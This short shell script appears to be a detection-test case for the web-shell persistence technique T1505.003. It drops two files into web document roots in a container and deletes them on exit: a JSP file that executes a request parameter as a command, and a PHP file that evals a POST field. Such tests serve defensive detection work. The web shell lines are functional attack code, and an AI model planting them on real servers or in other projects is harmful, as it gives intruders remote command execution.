#!/bin/sh
# case: T1505.003-jsp-and-aspx-dropped
# technique: Web shell: files put in several document roots
# source: redcanaryco/atomic-red-team T1505.003; elastic Web shell files created
# needs: sh
# expect: file persistence
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
trap 'rm -f /srv/www/cmd.jsp /var/www/html/x.phtml; rmdir /srv/www 2>/dev/null; [ -z "${R:-}" ] || rm -rf /var/www' EXIT; trap 'exit 1' INT TERM
[ -d /var/www/html ] || { mkdir -p /var/www/html || exit 77; R=1; }; mkdir -p /srv/www || exit 77; echo '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' > /srv/www/cmd.jsp; echo '<?php @eval($_POST["p"]);?>' > /var/www/html/x.phtml
exit 0
